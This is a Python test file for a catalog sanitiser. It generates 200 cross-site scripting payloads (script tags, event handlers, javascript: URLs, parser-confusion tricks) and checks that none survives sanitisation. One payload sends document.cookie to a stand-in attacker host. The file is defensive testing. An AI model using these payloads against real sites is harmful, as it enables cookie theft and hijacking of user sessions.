"""200 ways to have a script run out of a description; none of them survives."""

import itertools
from html.parser import HTMLParser

from catalog.services import sanitised

_CALLS = [
    "alert(1)",
    "fetch('//evil.example/?'+document.cookie)",
    "eval(name)",
    "top[`al`+`ert`](1)",
]
_SEEDS = [
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>{}",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x onerror={}>",
    '<img src="x" ONERROR="{}">',
    "<img src=x onerror\t=\n{}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:{}"><text x=20 y=20>x</text></a></svg>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<math><mi xlink:href='javascript:{}'>x</mi></math>",
    '<a href="javascript:{}">x</a>',
    '<a href="JaVaScRiPt:{}">x</a>',
    '<a href="&#106;avascript:{}">x</a>',
    '<a href="java\tscript:{}">x</a>',
    '<a href=" &#14; javascript:{}">x</a>',
    '<a href="data:text/html,<script>{}</script>">x</a>',
    '<a href="vbscript:{}">x</a>',
    '<iframe src="javascript:{}"></iframe>',
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<form action="javascript:{}"><input type=submit></form>',
    '<button formaction="javascript:{}">x</button>',
    '<input autofocus onfocus="{}">',
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>x</marquee>",
    '<meta http-equiv="refresh" content="0;url=javascript:{}">',
    '<base href="javascript:{}//">',
    '<link rel=stylesheet href="javascript:{}">',
    "<style>@import 'javascript:{}';</style>",
    '<p style="background:url(javascript:{})">x</p>',
    '<p style="width:expression({})">x</p>',
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<textarea><img title=\"</textarea><img src=x onerror={}>\"></textarea>",
    "<title><img title=\"</title><img src=x onerror={}>\"></title>",
    "<xmp><img title=\"</xmp><img src=x onerror={}>\"></xmp>",
    "<!--<img src=\"--><img src=x onerror={}//\">",
    "<![CDATA[<img src=x onerror={}>]]>",
    "<?xml-stylesheet href=\"javascript:{}\"?>",
    "<p onclick={}>x</p>",
    "<p/onmouseover={}>x</p>",
    "<template><script>{}</script></template>",
    "<select><noembed></select><script>{}</script>",
    "<table background='javascript:{}'>",
    "<isindex type=image src=1 onerror={}>",
]  # fmt: skip
PAYLOADS = [seed.replace("{}", call) for seed, call in itertools.product(_SEEDS, _CALLS)]
_NEVER = {"script", "style", "iframe", "object", "embed", "form", "input", "button", "svg", "math",
          "base", "link", "meta", "template", "video", "audio", "noscript", "textarea"}  # fmt: skip

_ADDRESSES = {"href", "src", "xlink:href", "action", "data"}
_HARMLESS = ("http:", "https:", "mailto:", "tel:")


class _Faults(HTMLParser):
    """Reads as a browser would, and notes what could run."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _NEVER:
            self.found.append(tag)
        for name, value in attrs:
            address = "".join((value or "").split()).lower()
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "background"}:
                self.found.append(name)
            elif name in _ADDRESSES and ":" in address and not address.startswith(_HARMLESS):
                self.found.append(f"{name}={address}")


def faults_of(html: str) -> list[str]:
    reader = _Faults()
    reader.feed(html)
    return reader.found


def test_nothing_of_200_payloads_can_run() -> None:
    assert len(set(PAYLOADS)) == 200

    kept = {payload: faults_of(sanitised(payload)) for payload in PAYLOADS}
    assert {payload: faults for payload, faults in kept.items() if faults} == {}


def test_what_could_run_is_noticed_and_what_cannot_is_kept() -> None:
    assert sum(bool(faults_of(payload)) for payload in PAYLOADS) > 150

    assert sanitised("<p>A <strong>fine</strong> mug</p>") == "<p>A <strong>fine</strong> mug</p>"
